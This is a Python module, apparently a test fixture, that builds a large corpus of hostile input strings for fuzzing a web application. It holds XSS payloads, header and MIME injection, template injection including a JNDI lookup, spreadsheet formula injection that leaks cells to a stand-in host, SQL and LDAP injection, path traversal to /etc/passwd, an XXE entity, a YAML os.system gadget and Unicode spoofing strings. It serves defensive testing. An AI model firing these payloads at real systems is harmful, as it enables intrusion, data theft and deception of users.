"""Text that strangers may report and careless people may type: made to run, to break out, to pose as something else.

Made here by combination. All is harmless where it works: it sets `window.__pwned` or asks a host that does not exist.
"""

import base64
from collections.abc import Iterator
from itertools import product

MARK = "window.__pwned=1"
HOST = "pwned.test"
SCRIPTS = (
    f"<script>{MARK}</script>",
    f"<ScRiPt src=//{HOST}/s.js></sCrIpT>",
    f"<script\n>{MARK}//",
    f"<img src=x onerror={MARK}>",
    f"<img/src=//{HOST}/i.png/onload='{MARK}'>",
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{MARK}"><text y=20>press</text></a></svg>',
    f"<math><mtext></p><style><!--</style><img src onerror={MARK}>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<iframe src=javascript:parent.{MARK}>",
    f"<details open ontoggle={MARK}><summary>x</summary></details>",
    f"<input autofocus onfocus={MARK}>",
    f"<body onload={MARK} onpageshow={MARK}>",
    f"<video><source onerror={MARK}></video>",
    f"<object data=javascript:{MARK}></object>",
    f"<embed src=//{HOST}/e.swf>",
    f"<form action=//{HOST}/><input name=csrfmiddlewaretoken><button autofocus>Save",
    f"<base href=//{HOST}/>",
    f'<meta http-equiv="refresh" content="0;url=//{HOST}/">',
    f"<link rel=stylesheet href=//{HOST}/c.css>",
    f"<style>@import url(//{HOST}/c.css); * {{ background: url(//{HOST}/b) }}</style>",
    f"<p style='background:url(//{HOST}/b);position:fixed;inset:0;animation:x' onanimationstart={MARK}>",
    f"<template><script>{MARK}</script></template><slot onslotchange={MARK}>",
    f"<custom-x tabindex=0 autofocus onfocus={MARK}>",
    f"<div hx-get=//{HOST}/ hx-trigger=load hx-on:load='{MARK}'>",
    f"<button formaction=javascript:{MARK} popovertarget=x onbeforetoggle={MARK}>x</button>",
)
BREAKOUTS = (
    "",
    '">',
    "' autofocus x='>",
    "</title>",
    "</textarea></script></style>--!>",
    "]]></noscript></select></template>",
    "<!--><!",
)
ATTRIBUTES = tuple(
    f"{quote}{blank}{handler}={quote}{MARK}{end}"
    for quote, end in (('"', '" x="'), ("'", "' x='"), ("`", ""))
    for blank, handler in ((" ", "onmouseover"), ("/", "onfocus"), ("\t", "onpointerenter"), (" autofocus ", "onblur"))
)
URLS = tuple(
    scheme + f"{MARK}//%0a"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "\x01javascript:",
        "javascript&colon;",
        "data:text/html,<script>",
        "vbscript:",
        "view-source:javascript:",
        "//pwned.test/",
        "https://user:pass@pwned.test/",
        "https:\\\\pwned.test\\",
        "http://[::1",
        "file:///etc/passwd#",
        "mailto:a@pwned.test?bcc=b@pwned.test&body=",
        "https://xn--80ak6aa92e.test/",
        "blob:https://pwned.test/",
        "cid:logo?",
        "ftp://pwned.test/",
    )
)
LINE_ENDS = ("\r\n", "\r", "\n", "\0", "\v", "\f", "\t", "\x1c", "\x1e", "\x85", "\u2028", "\u2029", "%0d%0a", "\\r\\n")
HEADERS = (
    "Bcc: all@pwned.test",
    "Content-Type: text/html",
    "From: ceo@contoso.test",
    "Subject: another",
    " continued",
    "\r\n\r\n<b>a body</b>",
    ".\r\nMAIL FROM:<x@pwned.test>",
)
BOUNDARIES = tuple(
    f"{before}--{name}{after}"
    for before, name, after in product(
        ("", "\r\n", "\n\n"),
        ("part-1", "===============1==", "part-00000000-0000-0000-0000-000000000000"),
        ("", "--", "\r\nContent-Type: text/html\r\n\r\n<script>"),
    )
)
CHARSETS = ("utf-8", "UTF-7", "iso-2022-jp", "x-unknown", "utf-8*en")
WORDS = tuple(
    f"=?{charset}?{form}?{text}?="
    for charset in CHARSETS
    for form, text in (
        ("q", "a=0D=0ABcc:_x=40pwned.test"),
        ("B", base64.b64encode(b"\r\nBcc: x@pwned.test").decode()),
        ("b", "////"),
    )
) + (
    "=?",
    "?=",
    "=?utf-8?q?",
    "=?utf-8?q?open",
    "=?utf-8?z?x?= =?utf-8?q?y?=",
    '"=?utf-8?q?=22?="',
    "a (comment) <b@c>",
    "a, b;",
)
TEMPLATES = (
    "{{7*7}}",
    "{{ settings.SECRET_KEY }}",
    "{{ name.__class__.__mro__ }}",
    "{{ targets.clear }}",
    "{{ name|safe }}",
    "{% load panel %}",
    "{% debug %}",
    '{% include "base.html" %}',
    "{% for a in targets %}{% for b in targets %}{% for c in targets %}x",
    "{% csrf_token %}{% now 'Y' %}",
    "{%",
    "{{ unclosed",
    "{# hidden #}",
    "{% endif %}",
    "{% comment %}",
    "${jndi:ldap://pwned.test/a}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "{name!r:>1000000}",
    "{}",
    "%s%s%n",
    "%(name)s",
    "%1000000d",
    "[[${7*7}]]",
    "@(7*7)",
    "$(id)`id`;id|id&&id",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "!!python/object/apply:os.system [id]",
)
FORMULAS = tuple(
    sign + rest
    for sign, rest in product(
        ("=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "\uff0b", "\uff0d", "\uff20"),
        ("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("http://{HOST}/?"&A1,"x")', 'SUM(A1),"=2+2"\n=3+3'),
    )
) + ("';=1", ';=1+1;"=2"', '",=1+1,"')
ESCAPES = tuple(
    start + rest
    for start, rest in product(
        ("\x1b[", "\x9b", "\\033["), ("2J", "31mred\x1b[0m", "8m hidden", "1;1Hfirst", "]0;title\x07")
    )
)
BIDI = tuple(
    f"{sign}txt.exe{end}"
    for sign in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
    for end in ("", "\u202c", "\u2069")
)
HIDDEN = tuple(
    f"ad{sign}min{more}"
    for sign in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\U000e0041"
    for more in ("", "@contoso.test")
)
FLOODS = (
    *(char + sign * 120 for char in "aZ\u05d0" for sign in "\u0300\u0336\u20dd\ufe0f"),
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 10,
    "\U0001f3f3\ufe0f\u200d\U0001f308" * 20,
    "\U0001f1e9\U0001f1ea" * 40,
    "\u200d\ufe0f" * 60,
    "\ufdfd" * 40,
    "\U00012031" * 40,
    "\u0e49" * 90 + "x",
)
LOOKALIKES = (
    "\u0430dmin",
    "p\u0430ypal.test",
    "\uff21\uff24\uff2d\uff29\uff2e",
    "\U0001d41a\U0001d41d\U0001d426\U0001d422\U0001d427",
    "mail\u2024contoso\u2024test",
    "contoso.test\u2215@pwned.test",
    "\uff1cscript\uff1e" + MARK,
    "\u2039img src=x\u203a",
    "\u212aelvin \u017fcript",
    "\u0130\u0131\u00df\ufb01",
)
LONG = tuple((part * 300)[:300] for part in ("x", "\u00e9", "\u05e9", "x-", "/", '"', "<", "&", "\U0001f680", "W "))
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE notifications_completion; --",
    '" UNION SELECT secret FROM tokens --',
    "1) OR 1=1/*",
    "%' AND 1=0 UNION ALL SELECT 1 --",
    "_%_%",
    "\\' or 1=1 #",
    "admin'/**/--",
    "$where: '1 == 1'",
    "*)(uid=*))(|(uid=*",
)
PATHS = tuple(
    up + target
    for up in ("../" * 6, "..\\" * 6, "%2e%2e%2f" * 4, "/", "file://", "\\\\pwned.test\\", "....//")
    for target in ("etc/passwd", "x.exe", "x.csv\0.png")
) + ("con", "aux.txt", "~root", "-rf *", ".", "..")
RUBBISH = (
    "".join(map(chr, range(0x80, 0xA0))) + "x",
    "".join(map(chr, range(0xA0, 0x100))),
    "".join(map(chr, range(1, 0x20))) + "x",
    b"\xff\xfe\xc0\x80 overlong".decode("latin-1"),
    "\u00c3\u00a9\u00e2\u20ac\u2122",
    "\ufffd\ufffe\uffff x",
    "\ue000\uf8ff x",
    "\x7f\x7fx\x08\x08",
    "&lt;script&gt;&amp;amp;&#60;",
    "&#0;&#x110000;&NotAnEntity;",
    "null",
    "undefined",
    "NaN",
    "true",
    "[object Object]",
    "0",
    "-1",
    "1e309",
    "\\",
    '"',
    "'",
    "<",
    ">",
    "&",
    "\\u0000\\ud800",
    '{"a": 1}',
    "]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "a\u00a0b\u2003c\u3000d",
)
# JSON string literals that name no text at all.
HALF_PAIRS = tuple(
    f'"{before}{half}{after}"'
    for half in ("\\ud800", "\\udfff", "\\uDC00\\uD800", "\\ud83d")
    for before, after in (("", ""), ("x", ""), ("", "\\n<b>"))
)
# What is no UTF-8, and hence no JSON.
OCTETS = (b'"\xff"', b'"\xc0\x80"', b'"\xed\xa0\x80"', b'"\xf5\x80\x80\x80"', b'"caf\xe9"', b'"\xe2\x82"')


def strings() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(generated()))


def generated() -> Iterator[str]:
    yield from (before + script for before, script in product(BREAKOUTS, SCRIPTS))
    yield from ATTRIBUTES
    yield from URLS
    yield from (f"a{end}{header}" for end, header in product(LINE_ENDS, HEADERS))
    for kind in (BOUNDARIES, WORDS, TEMPLATES, FORMULAS, ESCAPES, BIDI, HIDDEN, FLOODS, LOOKALIKES, LONG, QUERIES):
        yield from kind
    yield from PATHS
    yield from RUBBISH
